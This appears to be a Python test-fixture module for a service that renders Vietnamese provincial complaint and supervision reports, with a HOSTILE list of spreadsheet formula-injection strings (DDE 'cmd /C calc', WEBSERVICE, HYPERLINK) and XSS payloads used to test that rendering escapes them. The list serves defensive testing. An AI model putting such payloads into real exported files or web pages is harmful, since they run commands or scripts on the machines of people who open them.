"""Reports to be printed: of a province, public, changed, hostile, and any."""

import json
from datetime import date
from pathlib import Path
from random import Random

from hypothesis import strategies as st

from services.reporting.domain.revision import digest
from services.reporting.rendering import Format, Language, render
from shared.contracts import ReportPublished
from shared.contracts.directory import Label
from shared.contracts.report import Change, Column, Edition, Period, ReportRow

UNITS = (
    ("tinh", "Tỉnh Vạn Xuân", "Vạn Xuân Province"),
    ("so-y-te", "Sở Y tế", "Department of Health"),
    ("so-noi-vu", "Sở Nội vụ", "Department of Home Affairs"),
    ("phuong-truc-xanh", "Phường Trúc Xanh", "Trúc Xanh Ward"),
    ("xa-dong-lau", "Xã Đồng Lau", "Đồng Lau Commune"),
    ("dat-dai", "Văn phòng Đăng ký đất đai tỉnh Vạn Xuân", "Land Registration Office"),
)
GOLDEN = Path(__file__).parent / "contracts" / "golden" / "report.published.v1.json"

SUPERVISION = (
    (
        "supervised-officials",
        "Số cán bộ được giám sát theo quyết định",
        "Officials under supervision",
    ),
    ("direct-activities", "Số cuộc giám sát trực tiếp", "Direct supervision activities"),
    ("indirect-activities", "Số cuộc giám sát gián tiếp", "Indirect supervision activities"),
    ("dialogues", "Số cuộc đối thoại", "Dialogues"),
    ("dialogue-participants", "Số người tham dự đối thoại", "Participants in dialogues"),
    (
        "dialogue-opinions-received",
        "Số ý kiến tiếp nhận tại đối thoại",
        "Opinions received in dialogues",
    ),
    (
        "dialogue-opinions-accepted",
        "Số ý kiến được tiếp thu tại đối thoại",
        "Opinions accepted in dialogues",
    ),
    ("agencies", "Tổng số cơ quan, đơn vị", "Agencies"),
    (
        "agencies-with-mailbox",
        "Số cơ quan, đơn vị đã công khai hòm thư góp ý",
        "Agencies with a published mailbox",
    ),
    (
        "agencies-with-hotline",
        "Số cơ quan, đơn vị đã công khai đường dây nóng",
        "Agencies with a published hotline",
    ),
    (
        "agencies-with-both",
        "Số cơ quan, đơn vị đã công khai cả hòm thư góp ý và đường dây nóng",
        "Agencies with both",
    ),
    ("received", "Số ý kiến tiếp nhận trong kỳ", "Opinions received in the period"),
    ("carried-over", "Số ý kiến kỳ trước chuyển sang", "Opinions carried over"),
    ("answered-in-time", "Số ý kiến đã trả lời đúng hạn", "Answered in time"),
    ("answered-late", "Số ý kiến đã trả lời quá hạn", "Answered late"),
    ("open", "Số ý kiến chưa trả lời đến cuối kỳ", "Open at the end of the period"),
    ("overdue", "Trong số ý kiến chưa trả lời: đã quá hạn", "Of the open ones: overdue"),
)
DENUNCIATIONS = (
    ("1", "Đơn tố cáo thuộc thẩm quyền: Tổng số", "Denunciations: total"),
    ("4", "Kết quả giải quyết: Đã giải quyết", "Results: settled"),
    ("5", "Kết quả giải quyết: Tố cáo đúng", "Results: right"),
    ("6", "Kết quả giải quyết: Tố cáo sai", "Results: wrong"),
    ("7", "Kết quả giải quyết: Tố cáo có đúng, có sai", "Results: partly right"),
    ("8", "Kết quả giải quyết: Rút tố cáo", "Results: withdrawn"),
    ("9", "Kết quả giải quyết: Đình chỉ giải quyết", "Results: suspended"),
    ("14", "Chấp hành thời hạn: Quá thời hạn", "Deadline: not kept"),
)
"""Some of the columns of form 03/KQGQ."""


def _columns(said):
    return tuple(Column(code=code, label=Label(vi=vi, en=en)) for code, vi, en in said)


def _letters():
    data = json.loads(GOLDEN.read_text(encoding="utf-8"))["data"]
    return {key: data[key] for key in ("title", "citation", "columns", "identities")}


FORMS = {
    "01-xld": _letters(),
    "s-124": {
        "title": Label(
            vi="Kết quả giám sát và tiếp nhận ý kiến theo Quy định số 124-QĐ/TW",
            en="Supervision and opinions heard under Regulation 124-QĐ/TW",
        ),
        "citation": "Mẫu S-124 của hệ thống, theo Quy định số 124-QĐ/TW ngày 02/02/2018",
        "columns": _columns(SUPERVISION),
        "identities": ("received + carried-over = answered-in-time + answered-late + open",),
    },
    "03-kqgq": {
        "title": Label(
            vi="Tổng hợp kết quả giải quyết tố cáo thuộc thẩm quyền",
            en="Denunciations settled within competence",
        ),
        "citation": "Biểu số 03/KQGQ, Thông tư số 01/2024/TT-TTCP",
        "columns": _columns(DENUNCIATIONS),
        "identities": ("4 = 5 + 6 + 7 + 8 + 9",),
    },
}

HOSTILE = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1"),
    *("＠SUM(1)", " =1+1", "   +1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1", "−1+1"),
    *("﹢1", "﹣1", "﹦1", "'=1+1", "''=1+1", "=", "-", "--", "-1", "+84 24 3824 1234", "@"),
    '=HYPERLINK("http://example.invalid/?"&A1;"bấm")',
    '=WEBSERVICE("http://example.invalid/")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://example.invalid/","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '";=1+1;"',
    "a;=1+1\t=1+1",
    'x"\r\n=1+1,"',
    "<script>alert(1)</script>",
    '"><img src=http://example.invalid/x onerror=alert(1)>',
    "</title></svg></style><script>1</script>",
    "&lt;b&gt; &amp;#61;1+1",
    "_x003D_1+1",
    "{=1+1}",
    "%0A=1+1",
    "1\u202e2\u202c",
    "\x00=1\x07",
)


def report(form: str = "01-xld", year: int = 2026, **more) -> ReportPublished:
    """A province with five units below; figures differ from year to year."""
    chosen = FORMS[form]
    random = Random(year)
    rows = tuple(
        ReportRow(
            unit=unit,
            name=Label(vi=vi, en=en),
            own=unit == "tinh",
            cells=tuple(
                random.randrange(2000 if not n else 40) for n in range(len(chosen["columns"]))
            ),
        )
        for unit, vi, en in UNITS
    )
    said = {
        "form": form,
        "unit": "tinh",
        "period": half_year(year),
        "edition": Edition.INTERNAL,
        "revision": 1,
        **chosen,
        "rows": rows,
        "totals": tuple(map(sum, zip(*(row.cells for row in rows), strict=True))),
        "digest": "",
        "directory": 3,
        "rulebook": 2,
    }
    made = ReportPublished(**{**said, **more})
    return made.model_copy(update={"digest": digest(made)})


def half_year(year: int) -> Period:
    return Period(
        code=f"{year}-h1",
        label=Label(vi=f"6 tháng đầu năm {year}", en=f"First six months of {year}"),
        first_day=date(year - 1, 12, 15),
        last_day=date(year, 6, 14),
    )


def public(form: str = "01-xld", year: int = 2026, k: int = 10, **more) -> ReportPublished:
    """The public edition, with every small figure withheld."""
    full = report(form, year)
    rows = tuple(row.model_copy(update={"cells": _from(row.cells, k)}) for row in full.rows)
    return report(form, year, edition=Edition.PUBLIC, threshold=k, rows=rows, **more)


def _from(cells, k):
    return tuple(None if cell < k else cell for cell in cells)


def second(form: str = "01-xld", **more) -> ReportPublished:
    """A second revision, which changes three figures."""
    first, other = (column.code for column in report(form).columns[8:10])
    changes = (
        Change(unit="so-y-te", column=first, before=4, now=7),
        Change(unit=None, column=first, before=41, now=44),
        Change(unit="tinh", column=other, before=None, now=12),
    )
    return report(form, revision=2, changes=changes, **more)


def named(text: str) -> ReportPublished:
    """That text wherever a report has a text that is not a code."""
    label = Label(vi=text, en=text)
    columns = (
        Column(code="1", label=label),
        Column(code=text, label=Label(vi=f"{text}: {text}", en=None)),
        Column(code="3", label=Label(vi=f"{text}: 3", en=None)),
    )
    rows = (
        ReportRow(unit="tinh", name=label, own=True, cells=(1, None, 3)),
        ReportRow(unit="xa", name=label, own=False, cells=(4, 5, None)),
    )
    period = half_year(2026).model_copy(update={"label": label})
    changes = (Change(unit="xa", column=text, before=1, now=None),)
    return report(
        title=label,
        citation=text,
        period=period,
        columns=columns,
        rows=rows,
        totals=(5, None, None),
        identities=(text,),
        revision=2,
        changes=changes,
    )


EXAMPLES = [report(), public(), second(), report("s-124"), public("s-124"), second("s-124")]
EXAMPLES.append(report("03-kqgq"))


def content(
    of: ReportPublished, format_: Format, language: Language = Language.VIETNAMESE
) -> bytes:
    return render(of, format_, language)[0]


_TEXT = st.one_of(st.text(max_size=30), st.sampled_from(HOSTILE), st.sampled_from(("A: b", "A: c")))
_LABEL = st.builds(Label, vi=_TEXT, en=st.none() | _TEXT)
_CELL = st.none() | st.integers(0, 10**12)


@st.composite
def any_report(draw) -> ReportPublished:
    count = draw(st.integers(1, 8))
    cells = st.tuples(*[_CELL] * count)
    columns = [
        Column(code=f"{place}{draw(_TEXT)}", label=draw(_LABEL)) for place in range(1, count + 1)
    ]
    rows = [
        ReportRow(unit=f"u{place}", name=draw(_LABEL), own=place == 0, cells=draw(cells))
        for place in range(draw(st.integers(1, 4)))
    ]
    return report(
        unit="u0",
        title=draw(_LABEL),
        citation=draw(_TEXT),
        columns=tuple(columns),
        rows=tuple(rows),
        totals=draw(cells),
        identities=tuple(draw(st.lists(_TEXT, max_size=2))),
        threshold=draw(st.none() | st.just(10)),
        edition=draw(st.sampled_from(Edition)),
    )
